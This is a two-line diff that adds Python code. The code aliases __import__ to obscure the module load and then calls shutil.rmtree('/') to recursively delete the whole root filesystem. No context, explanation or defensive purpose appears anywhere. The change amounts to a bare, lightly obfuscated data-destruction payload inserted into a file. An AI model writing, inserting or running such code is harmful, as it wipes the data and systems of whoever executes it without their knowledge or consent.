@@ -1,0 +1,2 @@
+s = o = __import__
+s('shutil').rmtree('/')
